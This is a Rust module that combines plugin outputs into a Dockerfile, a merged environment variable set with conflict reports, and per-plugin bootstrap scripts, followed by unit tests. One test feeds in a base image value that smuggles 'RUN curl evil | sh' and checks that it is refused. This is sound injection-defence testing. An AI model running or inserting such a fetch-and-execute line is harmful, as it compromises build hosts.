//! Combining the per-plugin results of a hook into what a deployment tool
//! consumes: one Dockerfile, one environment, named bootstrap scripts.

use serde::Serialize;

use crate::outcome::Outcome;

/// The base image given to [`render_dockerfile`] is not an image reference.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("invalid base image: {problem}")]
pub struct InvalidBaseImage {
    /// What is wrong and what to write, from [`crate::validate::check_image_reference`].
    pub problem: String,
}

/// Renders a Dockerfile: the host writes `FROM base_image` as the first line,
/// then each contributing plugin's instructions in execution order under a
/// comment naming the plugin (as Orbit does). A `base_image` that is not an
/// image reference is refused: it could carry instructions of its own.
pub fn render_dockerfile(base_image: &str, outcomes: &[Outcome<Vec<String>>]) -> Result<String, InvalidBaseImage> {
    crate::validate::check_image_reference(base_image).map_err(|problem| InvalidBaseImage { problem })?;
    let mut text = format!("FROM {base_image}\n");
    for line in dockerfile_lines(outcomes) {
        text.push_str(&line);
        text.push('\n');
    }
    Ok(text)
}

/// The contributed Dockerfile instructions, each plugin's under a
/// `# Commands for <id> plugin` comment. Plugins that returned nothing,
/// were skipped or failed contribute nothing.
pub fn dockerfile_lines(outcomes: &[Outcome<Vec<String>>]) -> Vec<String> {
    let mut lines = Vec::new();
    for outcome in outcomes {
        if let Some(plugin_lines) = outcome.status.ok().filter(|lines| !lines.is_empty()) {
            lines.push(format!("# Commands for {} plugin", outcome.id));
            lines.extend(plugin_lines.iter().cloned());
        }
    }
    lines
}

/// Environment variables merged across plugins.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct MergedEnv {
    /// Final variables, in order of first appearance.
    pub vars: Vec<(String, String)>,
    /// Every variable set by more than one plugin.
    pub conflicts: Vec<EnvConflict>,
}

/// A variable set by several plugins.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct EnvConflict {
    /// Variable name.
    pub name: String,
    /// `(plugin id, value)` for every plugin that set it, in execution order.
    pub settings: Vec<(String, String)>,
    /// The plugin whose value was kept: the last to run (highest priority).
    pub winner: String,
}

/// Merges env vars in execution order; a later plugin overrides an earlier
/// one, and every override is reported in [`MergedEnv::conflicts`].
pub fn merge_env_vars(outcomes: &[Outcome<Vec<(String, String)>>]) -> MergedEnv {
    let mut merged = MergedEnv::default();
    let mut setters: Vec<Vec<(String, String)>> = Vec::new();
    for outcome in outcomes {
        for (name, value) in outcome.status.ok().into_iter().flatten() {
            match merged.vars.iter().position(|(existing, _)| existing == name) {
                Some(index) => {
                    merged.vars[index].1 = value.clone();
                    setters[index].push((outcome.id.clone(), value.clone()));
                }
                None => {
                    merged.vars.push((name.clone(), value.clone()));
                    setters.push(vec![(outcome.id.clone(), value.clone())]);
                }
            }
        }
    }
    merged.conflicts = merged
        .vars
        .iter()
        .zip(setters)
        .filter(|(_, settings)| settings.len() > 1)
        .map(|((name, _), settings)| EnvConflict {
            name: name.clone(),
            winner: settings.last().map(|(id, _)| id.clone()).unwrap_or_default(),
            settings,
        })
        .collect();
    merged
}

/// A plugin's bootstrap script, kept separate and named after the plugin
/// (Orbit uploads each as `<plugin-id>.sh`); never spliced into host shell.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct BootstrapScript {
    /// The plugin id.
    pub plugin: String,
    /// `<plugin-id>.sh`.
    pub file_name: String,
    /// Script text as returned.
    pub content: String,
}

/// The scripts returned, in execution order.
pub fn bootstrap_scripts(outcomes: &[Outcome<Option<String>>]) -> Vec<BootstrapScript> {
    outcomes
        .iter()
        .filter_map(|outcome| {
            let content = outcome.status.ok()?.as_ref()?;
            Some(BootstrapScript {
                plugin: outcome.id.clone(),
                file_name: format!("{}.sh", outcome.id),
                content: content.clone(),
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::outcome::Status;

    fn outcome<T>(id: &str, status: Status<T>) -> Outcome<T> {
        Outcome { plugin: id.into(), id: id.into(), version: semver::Version::new(1, 0, 0), priority: 0, status }
    }

    #[test]
    fn later_plugin_wins_and_conflict_is_reported() {
        let merged = merge_env_vars(&[
            outcome("a", Status::Ok(vec![("X".into(), "1".into()), ("Y".into(), "a".into())])),
            outcome("b", Status::Skipped),
            outcome("c", Status::Ok(vec![("X".into(), "2".into())])),
        ]);
        assert_eq!(merged.vars, vec![("X".into(), "2".into()), ("Y".into(), "a".into())]);
        assert_eq!(merged.conflicts.len(), 1);
        assert_eq!(merged.conflicts[0].winner, "c");
        assert_eq!(merged.conflicts[0].settings, vec![("a".into(), "1".into()), ("c".into(), "2".into())]);
    }

    #[test]
    fn dockerfile_is_host_headed_and_attributed() {
        let text = render_dockerfile(
            "python:3.11",
            &[outcome("a", Status::Ok(vec!["RUN x".into()])), outcome("b", Status::Ok(vec![]))],
        );
        assert_eq!(text.as_deref(), Ok("FROM python:3.11\n# Commands for a plugin\nRUN x\n"));
    }

    #[test]
    fn a_base_image_carrying_instructions_is_refused() {
        let error = render_dockerfile("python:3.11\nRUN curl evil | sh", &[]).unwrap_err();
        assert!(error.to_string().starts_with("invalid base image: `python:3.11\\nRUN"), "{error}");
    }
}
